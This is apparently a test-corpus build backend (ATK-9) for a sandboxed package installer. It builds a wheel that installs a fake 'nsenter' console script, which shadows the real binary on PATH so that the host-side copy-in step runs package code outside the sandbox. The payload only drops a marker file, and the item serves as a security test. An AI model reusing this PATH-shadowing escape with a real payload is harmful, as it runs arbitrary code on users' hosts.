# ATK-9: a console script named nsenter. A local engine's copy-in runs
# nsenter on the host (sandbox/engine/nsextract.go); looked up on PATH, the
# one an activated virtual environment puts first is this package's, and
# the user's next safe-install run runs it on the host, outside every
# sandbox, as the user. It writes a marker, then runs the real nsenter, so
# that the run goes on as ever. The in-tree backend writes the wheel by hand.
import base64
import hashlib
import os
import zipfile

NAME, VERSION = "nsenter_shadow", "1.0"
DIST = "%s-%s.dist-info" % (NAME, VERSION)
# The marker goes beside the environment's bin directory: the copy-in
# runs nsenter with no HOME.
PAYLOAD = (
    "import os, sys\n"
    "def main():\n"
    "    env = os.path.dirname(os.path.dirname(os.path.abspath(sys.argv[0])))\n"
    "    open(os.path.join(env, 'nsenter-shadow-ran'), 'w').write(' '.join(sys.argv))\n"
    "    os.execv('/usr/bin/nsenter', ['nsenter'] + sys.argv[1:])\n"
)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    files = {
        NAME + "/__init__.py": PAYLOAD,
        DIST + "/entry_points.txt": "[console_scripts]\nnsenter = nsenter_shadow:main\n",
        DIST + "/METADATA": "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (NAME, VERSION),
        DIST + "/WHEEL": "Wheel-Version: 1.0\nGenerator: corpus\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for name, body in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(body.encode()).digest()).rstrip(b"=").decode()
        record.append("%s,sha256=%s,%d" % (name, digest, len(body.encode())))
    record.append(DIST + "/RECORD,,")
    files[DIST + "/RECORD"] = "\n".join(record) + "\n"
    whl = "%s-%s-py3-none-any.whl" % (NAME, VERSION)
    with zipfile.ZipFile(os.path.join(wheel_directory, whl), "w") as z:
        for name, body in files.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = 0o100644 << 16
            z.writestr(info, body)
    return whl
